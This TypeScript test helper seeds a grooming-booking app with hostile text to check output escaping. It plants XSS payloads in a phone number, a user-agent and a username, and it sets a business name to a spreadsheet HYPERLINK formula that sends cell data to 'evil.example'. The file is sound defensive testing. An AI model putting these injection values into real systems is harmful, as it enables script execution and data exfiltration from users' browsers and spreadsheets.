import { Database } from "bun:sqlite";
import { join } from "node:path";
import type { BookingView } from "#src/shared/visits/bookings.ts";
import type { Site } from "#tests/support/server.ts";
import { serviceAt } from "#tests/support/service-at.ts";
import { login, type Walker } from "#tests/support/walks.ts";
import { nextOpenDay, signUpFields } from "../people.ts";
import { dealer } from "./evil-texts.ts";

let deal = dealer();
const word = () => deal(90);
const all = (most: number) => deal(most - 1);
const phoneNumber = "<svg onload=__xss=1>8285550100";

export interface Planted {
  groomerId: number;
  groomerUserId: number;
  parentUserId: number;
  newcomerUserId: number;
  reviewedId: number;
  bookingId: number;
}

export async function plant(server: Site): Promise<Planted> {
  deal = dealer();
  const parent = await caller(server, "demo_parent");
  const groomer = await caller(server, "demo_groomer");
  const admin = await caller(server, "admin");
  const { id: groomerUserId, groomerId } = await groomer<{ id: number; groomerId: number }>("GET", "/api/user");
  const { id: parentUserId } = await parent<{ id: number }>("GET", "/api/user");

  await asGroomer(server, groomer, groomerUserId, groomerId);
  await withEvilBrowser(server);
  const { bookingId, agreedId } = await asParent(server, parent, parentUserId, groomerId);
  const { groomerId: reviewedId, id: reviewId } = await writesReview(parent);
  await groomer("POST", "/api/reports", { kind: "review", id: reviewId, reason: "other", text: all(500) });
  await admin("PATCH", `/api/admin/reviews/${reviewId}`, { hidden: false, reason: all(500) });
  await groomer("PATCH", `/api/bookings/${agreedId}/status`, { status: "accepted" });
  await answersRequests(groomer, [bookingId, agreedId]);
  const newcomerUserId = await newcomer(server);
  await asAdmin(admin, { groomerId, newcomerUserId });
  return { groomerId, groomerUserId, parentUserId, newcomerUserId, reviewedId, bookingId };
}

type Call = <T = unknown>(method: string, path: string, body?: unknown) => Promise<T>;

const caller = async (server: Site, walker: Walker) => callWith(server, await login(server.url, walker));

/** Calls of a logged-in person. They throw on a refusal because the text would be missing. */
function callWith({ url }: Site, cookie: string): Call {
  return async <T>(method: string, path: string, body?: unknown) => {
    const headers = { cookie, "content-type": "application/json" };
    const response = await fetch(url + path, { method, headers, ...(body ? { body: JSON.stringify(body) } : {}) });
    const text = await response.text();
    if (!response.ok) throw new Error(`${method} ${path}: ${response.status} ${text}`);
    return (text === "" ? undefined : JSON.parse(text)) as T;
  };
}

const withEvilBrowser = ({ url }: Site) =>
  fetch(`${url}/api/demo-login`, {
    method: "POST",
    headers: { "content-type": "application/json", "user-agent": "<img src=x onerror=__xss=1>" },
    body: JSON.stringify({ username: "demo_groomer" }),
  });

function leave({ dataDir }: Site, place: string, text: string, id: number) {
  const [table, column] = place.split(".");
  const db = new Database(join(dataDir, "mudroom.db"));
  db.run("PRAGMA busy_timeout = 20000");
  db.query(`UPDATE ${table} SET ${column} = ? WHERE id = ?`).run(text, id);
  db.close();
}

interface Place {
  id: number;
  state: string;
  zipCode: string;
}

async function asGroomer(server: Site, call: Call, userId: number, groomerId: number) {
  await account(server, call, userId, { serviceRadius: 30 });
  const profile = { description: all(2000), showPhone: true, showEmail: true };
  await call("PATCH", `/api/groomer-profiles/${groomerId}`, profile);
  leave(server, "groomer_profiles.business_name", word(), groomerId);
  leave(server, "groomer_profiles.contact_name", word(), groomerId);
  for (const { id } of await call<Place[]>("GET", `/api/service-packages/${groomerId}`)) {
    await call("PATCH", `/api/service-packages/${id}`, { description: all(1000) });
    leave(server, "service_packages.name", word(), id);
  }
  for (const { id } of await call<Place[]>("GET", `/api/add-on-services/${groomerId}`)) {
    await call("PATCH", `/api/add-on-services/${id}`, { description: all(300) });
    leave(server, "add_on_services.name", word(), id);
  }
  for (const { id } of await call<Place[]>("GET", `/api/portfolio-images?groomerId=${groomerId}`)) {
    await call("PATCH", `/api/portfolio-images/${id}`, { caption: all(200) });
  }
  const startDate = new Date(Date.now() + 300 * 86_400_000).toISOString().slice(0, 10);
  await call("POST", "/api/days-off", { startDate, endDate: startDate, note: all(200) });
}

async function account(server: Site, call: Call, userId: number, more: object = {}) {
  await call("PATCH", `/api/users/${userId}`, { phoneNumber });
  leave(server, "users.full_name", word(), userId);
  const { id, state, zipCode } = await call<Place>("GET", `/api/locations/${userId}`);
  await call("PATCH", `/api/locations/${id}`, { address: "12 Any Street", city: "Asheville", state, zipCode, ...more });
  leave(server, "locations.address", all(200), id);
  leave(server, "locations.city", deal(80), id);
}

async function asParent(server: Site, call: Call, userId: number, groomerId: number) {
  await account(server, call, userId);
  const pets = await call<{ id: number }[]>("GET", "/api/pets");
  for (const { id } of pets) {
    const texts = { medicalInfo: all(1000), healthIssues: all(1000), specialInstructions: all(1000) };
    await call("PATCH", `/api/pets/${id}`, { breed: deal(80), ...texts });
    leave(server, "pets.name", deal(60), id);
  }
  const [offer] = await call<{ id: number }[]>("GET", `/api/service-packages/${groomerId}`);
  const addOns = await call<{ id: number }[]>("GET", `/api/add-on-services/${groomerId}`);
  const request = {
    groomerId,
    servicePackageId: offer!.id,
    addOnServiceIds: addOns.slice(0, 2).map(({ id }) => id),
    petIds: pets.slice(0, 2).map(({ id }) => id),
    preferredDate: await nextOpenDay(server.url, `/groomer/${groomerId}`),
    preferredTimeSlot: "Morning (8AM - 12PM)",
    ...serviceAt("12 Any Street", "Asheville", "28801"),
  };
  const ask = async (name: string) => {
    const texts = { petInfo: `${name}\n${all(1900)}`, specialInstructions: all(2000) };
    const access = { note: all(500) };
    const asked = await call<{ id: number }>("POST", "/api/bookings", { ...request, ...texts, access });
    leave(server, "visits.service_address", all(200), asked.id);
    leave(server, "visits.service_city", deal(80), asked.id);
    for (const column of ["parking", "stairs", "who_is_home"]) leave(server, `visits.${column}`, all(120), asked.id);
    leave(server, "visits.gate_code", deal(40), asked.id);
    return asked;
  };
  const [open, agreed, off] = [await ask("Waffles"), await ask("Pickle"), await ask("Olive")];
  await call("PATCH", `/api/bookings/${off.id}/status`, { status: "cancelled", reason: all(300) });
  return { bookingId: open.id, agreedId: agreed.id };
}

async function writesReview(call: Call) {
  const bookings = await call<BookingView[]>("GET", "/api/bookings/pet-parent");
  const visit = bookings.find(({ status, hasReview }) => status === "completed" && !hasReview);
  if (!visit) throw new Error("The demo has no visit to review");
  const review = { bookingId: visit.id, rating: 4, comment: all(2000) };
  return call<{ id: number; groomerId: number }>("POST", "/api/reviews", review);
}

async function answersRequests(call: Call, evilIds: number[]) {
  const bookings = (await call<BookingView[]>("GET", "/api/bookings/groomer")).filter(
    ({ id }) => !evilIds.includes(id),
  );
  const open = bookings.find(({ status }) => status === "pending");
  const agreed = bookings.find(
    ({ status, actions }) => status === "accepted" && actions.includes("cancel") && !actions.includes("complete"),
  );
  if (!open || !agreed) throw new Error("The demo groomer has no request to answer");
  await call("PATCH", `/api/bookings/${open.id}/status`, { status: "declined", reason: all(300) });
  await call("PATCH", `/api/bookings/${agreed.id}/status`, { status: "cancelled", reason: all(300) });
  await call("POST", "/api/membership/cancel", { reason: all(500) });
  await call("POST", "/api/membership/resume");
}

/** A groomer whose very username is markup, and whose business a spreadsheet would run. */
async function newcomer(server: Site): Promise<number> {
  const response = await fetch(`${server.url}/api/register`, {
    method: "POST",
    headers: { "content-type": "application/json" },
    body: JSON.stringify({ ...signUpFields("newcomer"), role: "groomer", phoneNumber }),
  });
  const { id } = (await response.json()) as { id: number };
  const call = callWith(server, response.headers.getSetCookie()[0]!.split(";")[0]!);
  const business = { businessName: "New Van", description: all(2000) };
  const profile = await call<{ id: number }>("POST", "/api/groomer-profiles", business);
  leave(server, "users.username", "<img/src=x/onerror=__xss=1>", id);
  leave(server, "users.full_name", word(), id);
  leave(server, "groomer_profiles.business_name", `=HYPERLINK("https://evil.example?"&A1)`, profile.id);
  leave(server, "locations.city", deal(80), (await call<Place>("GET", `/api/locations/${id}`)).id);
  return id;
}

async function asAdmin(call: Call, { groomerId, newcomerUserId }: Pick<Planted, "groomerId" | "newcomerUserId">) {
  await call("PATCH", `/api/admin/background-checks/${groomerId}`, {
    status: "passed",
    date: "2026-01-02",
    note: all(500),
  });
  await call("PATCH", `/api/admin/users/${newcomerUserId}/suspension`, { suspended: true, reason: all(500) });
}
